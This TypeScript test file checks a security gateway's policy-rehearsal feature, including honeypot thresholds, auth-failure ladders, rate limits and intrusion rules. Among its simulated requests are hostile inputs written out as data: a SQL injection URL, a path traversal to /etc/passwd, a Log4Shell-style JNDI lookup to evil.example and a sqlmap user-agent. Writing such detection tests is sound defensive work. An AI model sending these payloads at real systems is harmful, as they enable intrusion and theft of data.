import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { Block } from '../../../../src/core/block';
import type { Rehearsal } from '../../../../src/core/rehearsal';
import { rehearse, type RehearseOptions } from '../../../../src/security/rehearsal/rehearse';
import { makePolicy } from '../../../helpers/security-fixture';
import { SimulatedRun, sourceOf } from './simulated-run';

const minute = 60_000;

/** Rehearses a policy over a run; by default the one that was in force. */
function replay(
  run: SimulatedRun,
  policy: Readonly<Record<string, unknown>> = {},
  more: Partial<RehearseOptions> = {},
): Promise<Rehearsal> {
  return rehearse({
    policy: makePolicy(policy),
    source: run.source,
    surroundings: { ownAddresses: ['192.0.2.1'], allowed: [], scopeOf: () => undefined },
    blocks: [],
    from: run.startedAt,
    to: run.clock.now() + 1,
    clock: run.clock,
    signal: new AbortController().signal,
    ...more,
  });
}

const names = (rehearsal: Rehearsal): readonly string[] =>
  rehearsal.wouldBlock.map(({ address, rule }) => `${address} ${rule}`).toSorted();

const traps = ['/config.json', '/pma', '/solr', '/manager/html'];

describe('rehearsal of a policy', () => {
  it('blocks whom the policy in force blocked, whatever came in', async () => {
    const action = fc.record({
      from: fc.constantFrom('203.0.113.7', '203.0.113.8', '198.51.100.1', '2001:db8:9::1', '127.0.0.1', '192.0.2.1'),
      request: fc.oneof(
        fc.constantFrom(...traps, '/x1', '/x2.php', '/.env', '/v1/models').map((target) => ({ target })),
        fc.constantFrom(
          { target: '/x?id=1%27%20union%20select%20password%20from%20users--' },
          { target: '/%2e%2e/%2e%2e/etc/passwd' },
          { target: '/x?q=${jndi:ldap://evil.example/a}' },
          { target: '/v1/models', headers: { 'user-agent': 'sqlmap/1.7' } },
          { target: '/v1/models', headers: { authorization: 'Bearer good-1' } },
          { target: '/v1/models', headers: { authorization: 'Bearer decoy-1' } },
        ),
        fc.integer({ min: 1, max: 30 }).map((index) => ({
          target: '/v1/models',
          headers: { authorization: `Bearer wrong-${index}` },
        })),
      ),
      waitMs: fc.oneof(fc.integer({ min: 0, max: 5_000 }), fc.integer({ min: 61_000, max: 40 * minute })),
    });
    await fc.assert(
      fc.asyncProperty(fc.array(action, { minLength: 10, maxLength: 120 }), async (actions) => {
        const run = new SimulatedRun();
        for (const { from, request, waitMs } of actions) {
          run.clock.advance(waitMs);
          run.send({ from, ...request });
        }

        const rehearsal = await replay(run);

        assert.deepEqual(names(rehearsal), run.blocked);
        assert.deepEqual([rehearsal.sparedTotal, rehearsal.wouldBlockNew], [0, 0]);
      }),
      { numRuns: 40 },
    );
  });

  it('spares whom higher thresholds would have spared', async () => {
    const run = new SimulatedRun();
    for (const target of traps.slice(0, 3)) run.send({ target });

    const rehearsal = await replay(run, { honeypots: { distinctToBlock: 4, points: 10 } });

    assert.equal(rehearsal.wouldBlockTotal, 0);
    assert.deepEqual(
      rehearsal.spared.map(({ address, rule, wasBlocked }) => [address, rule, wasBlocked]),
      [['203.0.113.7', 'honeypot', true]],
    );
  });

  it('blocks whom lower thresholds would have blocked', async () => {
    const run = new SimulatedRun();
    for (const target of traps.slice(0, 2)) run.send({ target });

    const rehearsal = await replay(run, { honeypots: { distinctToBlock: 2 } });

    assert.deepEqual(names(rehearsal), ['203.0.113.7 honeypot']);
    assert.equal(rehearsal.wouldBlockNew, 1);
  });

  it('takes decoy paths that the policy adds', async () => {
    const run = new SimulatedRun();
    for (const target of ['/secret-a', '/secret-b', '/secret-c']) run.send({ target });

    const rehearsal = await replay(run, { honeypots: { paths: ['/secret-a', '/secret-b', '/secret-c'] } });

    assert.equal(rehearsal.wouldBlockTotal, 1);
  });

  it('climbs another ladder of wrong keys', async () => {
    const run = new SimulatedRun();
    for (let index = 0; index < 4; index++) run.send({ headers: { authorization: `Bearer wrong-${index}` } });

    const asIs = await replay(run);
    const stricter = await replay(run, { authFailures: { ladder: [{ failures: 3, minutes: 30 }] } });

    assert.deepEqual([asIs.wouldBlockTotal, stricter.wouldBlockTotal], [0, 1]);
  });

  it('does not take one wrong key for many', async () => {
    const run = new SimulatedRun();
    for (let index = 0; index < 20; index++) {
      run.clock.advance(61_000);
      run.send({ headers: { authorization: 'Bearer stale' } });
    }

    assert.equal((await replay(run)).wouldBlockTotal, 0);
  });

  it('counts what lower rate limits would have throttled, and whose it was', async () => {
    const run = new SimulatedRun();
    for (let index = 0; index < 30; index++) run.send({ headers: { authorization: 'Bearer good-1' } });

    const rehearsal = await replay(run, { rateLimits: { keyPerMinute: 10 } });

    assert.deepEqual([rehearsal.wouldThrottle, rehearsal.wouldThrottleOwn], [20, 20]);
  });

  it('leaves switched-off rules out', async () => {
    const run = new SimulatedRun();
    for (const target of ['/x?a=1%27%20union%20select%20a%20from%20b--', '/y?a=1%27%20union%20select%20c%20from%20d--'])
      run.send({ target });
    run.send({ target: '/%2e%2e/%2e%2e/etc/passwd' });
    run.send({ target: '/x?q=${jndi:ldap://evil.example/a}' });

    const before = await replay(run);
    const without = await replay(run, { intrusion: { disabledRules: ['sqli', 'traversal', 'file-access', 'java'] } });

    assert.ok(before.wouldBlockTotal === 1 && without.wouldBlockTotal === 0, JSON.stringify([before, without]));
  });

  it('blocks nobody where the policy only observes', async () => {
    const run = new SimulatedRun();
    for (const target of traps) run.send({ target });

    const rehearsal = await replay(run, { mode: 'observe' });

    assert.deepEqual([rehearsal.wouldBlockTotal, rehearsal.sparedTotal], [0, 1]);
  });

  it('replays mode auto as if shared, and says so', async () => {
    const run = new SimulatedRun();
    for (const target of traps) run.send({ target });

    const rehearsal = await replay(run, { mode: 'auto' });

    assert.equal(rehearsal.wouldBlockTotal, 1);
    assert.ok(rehearsal.limits.includes('as-shared'));
  });

  it('never blocks what the policy allows', async () => {
    const run = new SimulatedRun();
    for (const target of traps) run.send({ target });

    assert.equal((await replay(run, { allowlist: ['203.0.113.0/24'] })).wouldBlockTotal, 0);
  });

  it('forgets scores where the gateway was started anew', async () => {
    const run = new SimulatedRun();
    for (const target of traps.slice(0, 2)) run.send({ target });
    run.security.events.push({ kind: 'gateway.started', severity: 'info', at: run.clock.now() });
    run.clock.advance(1);
    const target = traps[2]!;
    run.security.accesses.push({
      ...run.security.accesses[0]!,
      requestId: 'req_after',
      path: target,
      at: run.clock.now(),
    });

    assert.equal((await replay(run)).wouldBlockTotal, 0);
  });

  it('reads a dense hour in parts and forgets no record', async () => {
    const run = new SimulatedRun();
    for (let index = 0; index < 9_000; index++) {
      run.clock.advance(7);
      run.send({ from: `198.51.${index % 50}.${index % 250}`, target: '/v1/models' });
    }

    assert.equal((await replay(run)).rows, run.security.accesses.length + run.security.events.length);
  });

  it('lets others have their turn while it works', async () => {
    const run = new SimulatedRun();
    for (let index = 0; index < 2_000; index++) run.send({ target: '/v1/models' });
    let time = 0;
    let pauses = 0;

    await replay(
      run,
      {},
      {
        clock: { monotonic: () => (time += 1) },
        pause: () => {
          pauses++;
          return Promise.resolve();
        },
      },
    );

    assert.ok(pauses > 50, String(pauses));
  });

  it('ends a slice with the record that took long', async () => {
    const run = new SimulatedRun();
    for (let index = 0; index < 40; index++) run.send({ headers: { authorization: 'Bearer good-1' } });
    let time = 0;
    let inSlice = 0;
    let mostInSlice = 0;

    await replay(
      run,
      {},
      {
        clock: { monotonic: () => time },
        surroundings: {
          ownAddresses: [],
          allowed: [],
          // Asked for once per record with a key: here it takes three milliseconds.
          scopeOf: () => {
            time += 3;
            mostInSlice = Math.max(mostInSlice, ++inSlice);
            return undefined;
          },
        },
        pause: () => {
          inSlice = 0;
          return Promise.resolve();
        },
      },
    );

    assert.equal(mostInSlice, 1);
    assert.equal(time, 120);
  });

  it('goes on without a pause while records cost nothing', async () => {
    const run = new SimulatedRun();
    for (let index = 0; index < 40; index++) run.send({ headers: { authorization: 'Bearer good-1' } });
    let pauses = 0;

    await replay(
      run,
      {},
      {
        clock: { monotonic: () => 0 },
        pause: () => {
          pauses++;
          return Promise.resolve();
        },
      },
    );

    // One for each page read, and one before the result.
    assert.equal(pauses, 3);
  });

  it('takes blocks that were there before in slices, too', async () => {
    const run = new SimulatedRun();
    run.send({ target: '/v1/models' });
    const blocks = Array.from({ length: 500 }, (_, index): Block => {
      const range = `198.51.${index >> 8}.${index & 255}`;
      return { range, source: 'import', rule: 'import', reason: '', createdAt: 0, strikes: 0 };
    });
    let time = 0;
    let pauses = 0;

    await replay(
      run,
      {},
      {
        blocks,
        clock: { monotonic: () => (time += 1) },
        pause: () => {
          pauses++;
          return Promise.resolve();
        },
      },
    );

    assert.ok(pauses > 200, String(pauses));
  });

  it('knows who was blocked before the first record', async () => {
    const run = new SimulatedRun();
    for (const target of traps) run.send({ target });
    const block: Block = {
      range: '203.0.113.0/24',
      source: 'import',
      rule: 'import',
      reason: '',
      createdAt: 0,
      strikes: 0,
    };

    const rehearsal = await replay(run, {}, { blocks: [block] });

    assert.deepEqual([rehearsal.wouldBlockTotal, rehearsal.sparedTotal], [0, 1]);
  });

  it('ends when it is cancelled', async () => {
    const run = new SimulatedRun();
    for (let index = 0; index < 2_000; index++) run.send({ target: '/v1/models' });
    const controller = new AbortController();
    let time = 0;

    const ending = replay(
      run,
      {},
      {
        signal: controller.signal,
        clock: { monotonic: () => (time += 1) },
        pause: () => {
          controller.abort(new Error('enough'));
          return Promise.resolve();
        },
      },
    );

    await assert.rejects(ending, /enough/);
  });

  it('says how far it came when time runs out', async () => {
    const run = new SimulatedRun();
    for (let index = 0; index < 20; index++) {
      run.clock.advance(3 * 60 * minute);
      run.send({ target: '/v1/models' });
    }
    let time = 0;

    const rehearsal = await replay(run, {}, { clock: { monotonic: () => (time += 15_000) } });

    assert.ok(rehearsal.limits.includes('cut-short'));
    assert.ok(rehearsal.to < run.clock.now());
  });

  it('says that there is nothing to replay', async () => {
    const run = new SimulatedRun();

    const rehearsal = await replay(run, {}, { source: sourceOf([], []) });

    assert.deepEqual([rehearsal.rows, rehearsal.wouldBlockTotal], [0, 0]);
  });
});
